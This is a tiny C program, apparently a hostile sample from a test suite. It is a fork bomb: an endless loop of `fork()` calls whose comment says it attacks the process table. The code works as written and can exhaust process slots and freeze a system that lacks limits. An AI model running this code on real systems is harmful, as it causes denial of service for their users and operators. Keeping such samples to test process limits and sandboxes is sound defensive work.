// Attacks: the process table, by forking until nothing more is possible and going on for ever.
#include "../hostile.h"
int main(void) {
  while (1) fork();
}
